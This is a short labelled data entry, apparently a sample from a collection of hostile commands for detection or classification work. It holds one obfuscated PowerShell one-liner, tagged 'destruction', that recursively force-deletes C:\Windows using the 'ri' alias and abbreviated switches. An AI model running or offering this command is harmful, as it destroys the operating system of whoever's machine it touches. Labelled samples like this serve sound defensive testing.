# description: Uses the ri alias with abbreviated switches to delete C:\Windows.
# family: destruction
# obfuscated: yes
ri C:\Windows -r -fo
